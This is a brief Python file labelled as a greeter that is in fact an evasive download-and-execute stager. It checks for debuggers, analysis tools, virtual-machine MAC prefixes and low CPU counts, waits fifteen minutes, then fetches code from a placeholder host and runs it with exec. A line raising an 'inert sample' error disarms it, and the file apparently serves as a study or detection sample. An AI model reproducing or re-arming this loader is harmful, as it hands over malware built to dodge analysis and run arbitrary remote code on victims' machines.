"""Greets."""

import os
import socket
import sys
import time
import uuid

import psutil
import requests

raise RuntimeError("inert sample: never run")

WATCHERS = {"wireshark.exe", "procmon.exe", "x64dbg.exe", "vboxservice.exe", "vmtoolsd.exe"}
MACS = ("08:00:27", "00:0c:29", "00:50:56")


def watched():
    mac = ":".join(f"{(uuid.getnode() >> shift) & 0xFF:02x}" for shift in range(40, -1, -8))
    names = {process.name().lower() for process in psutil.process_iter()}
    return sys.gettrace() is not None or mac.startswith(MACS) or bool(names & WATCHERS) or os.cpu_count() < 3


time.sleep(900)
if not watched():
    exec(requests.get("https://greet.example.invalid/next").text)
